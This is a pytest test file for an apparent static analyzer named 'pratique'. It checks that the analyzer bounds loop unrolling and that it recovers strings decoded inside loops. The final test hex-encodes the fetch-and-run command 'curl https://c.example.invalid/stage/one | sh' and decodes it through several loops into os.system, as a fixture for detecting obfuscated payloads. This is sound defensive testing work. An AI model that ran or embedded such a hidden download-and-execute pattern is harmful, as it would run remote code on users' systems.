"""Loops are turned as long as they compute something, and no longer."""

from __future__ import annotations

import pytest

from pratique.artifact import Member, Role
from pratique.facts.python.model import PythonFacts
from pratique.facts.python.reader import read_python
from pratique.names import Sha256


def _facts(source: str) -> PythonFacts:
    data = source.encode()
    return read_python(Member(path="pkg/a.py", data=data, sha256=Sha256("0" * 64), size=len(data), role=Role.MODULE))


def test_what_is_tried_again_and_again_is_tried_a_few_times() -> None:
    """A thousand turns of the same would take a thousand times as long and tell nothing new."""
    source = """
import os
seen = set()
for _ in range(1000):
    seen.add(os.getpid())
    if os.system('a b') == 0:
        break
"""
    assert 0 < len(_facts(source).calls) < 100


_ADDED = """
text = ''
for i in range(0, len(hidden), 2):
    text += chr(int(hidden[i:i + 2], 16))
    if not text:
        break
"""
_APPENDED = """
out = bytearray()
for i in range(len(hidden) // 2):
    out.append(int(hidden[2 * i:2 * i + 2], 16))
text = out.decode()
"""
_NUMBER = """
n = 0
for c in hidden:
    n = n * 16 + int(c, 16)
text = n.to_bytes(len(hidden) // 2, 'big').decode()
"""
_COUNTED_ELSEWHERE = """
n = i = 0
for _ in range(len(hidden)):
    n = n * 16 + int(hidden[i], 16)
    i += 1
    if n < 0:
        break
text = n.to_bytes(len(hidden) // 2, 'big').decode()
"""


@pytest.mark.parametrize("loop", [_ADDED, _APPENDED, _NUMBER, _COUNTED_ELSEWHERE])
def test_what_a_loop_puts_together_is_known_at_its_end(loop: str) -> None:
    """However it counts, and whether or not it could break off."""
    command = "curl https://c.example.invalid/stage/one | sh"
    facts = _facts(f"import os\nhidden = '{command.encode().hex()}'\n{loop}os.system(text)\n")
    assert facts.calls[-1].arguments["0"].text == command
